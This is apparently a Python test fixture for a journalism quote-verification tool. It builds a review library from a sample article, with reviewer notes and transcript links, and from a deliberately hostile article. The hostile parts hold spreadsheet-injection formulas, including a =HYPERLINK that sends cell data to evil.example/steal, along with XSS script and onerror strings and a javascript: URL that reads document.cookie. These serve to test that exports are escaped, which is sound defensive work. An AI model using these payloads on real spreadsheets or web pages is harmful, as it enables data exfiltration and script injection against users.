"""A review library to export: the bundled sample, reviewed and linked, and a hostile article.

The sample goes through the real import path (loader and extraction engine); its quotes are
marked with notes by two reviewers and three are linked to passages of a hearing transcript
found by the matching engine. The hostile article's quotes, notes, title, origin and primary
source carry spreadsheet formulas, HTML and script, as an attacker would write them.
"""

from __future__ import annotations

import dataclasses
from dataclasses import dataclass
from pathlib import Path

from workbench import services
from workbench.importing import load_article
from workbench.matching import locate_quote
from workbench.storage import Database

REPO_ROOT = Path(__file__).resolve().parents[2]
DATA = Path(__file__).resolve().parent / "data"
SAMPLE = REPO_ROOT / "resources" / "samples" / "harbour-bridge-inquiry.txt"
HOSTILE = DATA / "hostile-article.txt"
TRANSCRIPT = DATA / "harbour-bridge-hearing.txt"

HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1, "Click for the figures")'
SCRIPT_QUOTE = "<script>alert('xss')</script> is what the web form printed back at us,"
HOSTILE_NOTE = "=1+1 <script>alert('note')</script> <img src=x onerror=alert(3)>"
ACCENTED_NOTE = "Le maire parle d’un «scandale» — vérifié au café, naïvement “à la lettre”."
HOSTILE_ORIGIN = "javascript:alert(document.cookie)"
HOSTILE_REVIEWER = "@Eve =cmd"


@dataclass
class Library:
    db_path: Path
    sample_id: int
    hostile_id: int
    sample_quotes: dict[str, int]  # a short name → quote id
    hostile_quotes: dict[str, int]
    notes: dict[int, str]  # quote id → note written
    reviewers: dict[int, str]  # quote id → who set its status last
    statuses: dict[int, str]  # quote id → status set


def _quote_starting(db: Database, article_id: int, prefix: str) -> int:
    for quote in services.list_quotes(db, article_id=article_id):
        if quote.text.startswith(prefix):
            return quote.id
    raise AssertionError(f"no quote starts with {prefix!r}")


def _link(db: Database, quote_id: int, source_id: int, text: str, reviewer: str) -> None:
    quote = services.get_quote(db, quote_id=quote_id)
    match = locate_quote(text, quote.text, speaker=quote.speaker.name if quote.speaker else None)
    assert match.found, match.reason
    services.link_passage(
        db,
        quote_id=quote_id,
        source_id=source_id,
        start=match.start,
        end=match.end,
        score=match.score,
        verdict=str(match.verdict),
        reviewer=reviewer,
    )


def _build(db: Database) -> Library:
    notes: dict[int, str] = {}
    reviewers: dict[int, str] = {}
    statuses: dict[int, str] = {}

    def mark(quote_id: int, status: str, reviewer: str, note: str | None = None) -> None:
        services.mark_status(db, quote_id=quote_id, status=status, note=note, reviewer=reviewer)
        statuses[quote_id] = status
        reviewers[quote_id] = reviewer
        if note is not None:
            notes[quote_id] = note

    # --- the bundled sample, through the real import path --------------------------------
    sample_id = services.import_article(
        db, article=load_article(str(SAMPLE)), reviewer="Ada Reyes"
    ).article_id
    q = {
        "brannagh": _quote_starting(db, sample_id, "We are not here"),
        "achterberg": _quote_starting(db, sample_id, "I was told the deadline"),
        "people": _quote_starting(db, sample_id, "People in this city"),
        "anonymous": _quote_starting(db, sample_id, "Everyone in procurement"),
        "addendum": _quote_starting(db, sample_id, "rolling addendum"),
    }
    transcript = TRANSCRIPT.read_text(encoding="utf-8")
    source = services.attach_source_document(
        db,
        article_id=sample_id,
        origin="https://kestrelbay.example/inquiry/transcript-day-1",
        text=transcript,
        raw=TRANSCRIPT.read_bytes(),
        title="Inquiry transcript, opening session",
        reviewer="Ada Reyes",
    )
    for name in ("brannagh", "achterberg", "people"):
        _link(db, q[name], source.id, transcript, "Ada Reyes")
    mark(q["brannagh"], "verified", "Ada Reyes", "Matches the transcript, opening statement.")
    mark(
        q["achterberg"],
        "misquoted",
        "Ben Ode",
        "The transcript has “for everyone who asked”: the article drops the qualifier.",
    )
    mark(q["people"], "in_review", "Ben Ode")
    mark(q["people"], "verified", "Ben Ode", ACCENTED_NOTE)
    mark(q["anonymous"], "unverifiable", "Ada Reyes", "No recording; the official declined.")
    services.reject_quote(
        db, quote_id=q["addendum"], reason="A term, not a quote.", reviewer="Ada Reyes"
    )

    # --- the hostile article -------------------------------------------------------------
    article = dataclasses.replace(load_article(str(HOSTILE)), origin=HOSTILE_ORIGIN)
    hostile_id = services.import_article(db, article=article, reviewer="Ada Reyes").article_id
    start = article.text.index(HYPERLINK)
    mallory = article.text.index("Mallory Quint")
    from workbench.domain import SpeakerRef

    h = {
        "hyperlink": services.add_quote(
            db,
            article_id=hostile_id,
            start=start,
            end=start + len(HYPERLINK),
            speaker=SpeakerRef("Mallory Quint", mallory, mallory + len("Mallory Quint")),
            reviewer="Ada Reyes",
        ).id,
        "script": _quote_starting(db, hostile_id, "<script>"),
        "sum": _quote_starting(db, hostile_id, "@SUM("),
        "plus": _quote_starting(db, hostile_id, "+44"),
        "minus": _quote_starting(db, hostile_id, "-12%"),
    }
    evidence = (
        "Minutes of the council meeting. Councillor Larkin: <script>alert('xss')</script> is "
        "what the web form printed back at us, and nobody could say why."
    )
    document = services.attach_source_document(
        db,
        article_id=hostile_id,
        origin="javascript:alert(2)",
        text=evidence,
        title="<script>alert('source')</script> minutes",
        reviewer="Ada Reyes",
    )
    _link(db, h["script"], document.id, evidence, "Ada Reyes")
    mark(h["hyperlink"], "misquoted", "Ada Reyes", HOSTILE_NOTE)
    mark(h["script"], "verified", HOSTILE_REVIEWER, "<b>bold</b> & “quoted” – fine")
    mark(h["sum"], "misattributed", "Ben Ode", "-said by someone else, @ the audit")
    mark(h["plus"], "unverifiable", "Ben Ode", "+ no number on record")
    mark(h["minus"], "in_review", "Ben Ode", "\tcheck the budget table\r")
    return Library(
        db_path=Path(str(db.path)),
        sample_id=sample_id,
        hostile_id=hostile_id,
        sample_quotes=q,
        hostile_quotes=h,
        notes=notes,
        reviewers=reviewers,
        statuses=statuses,
    )
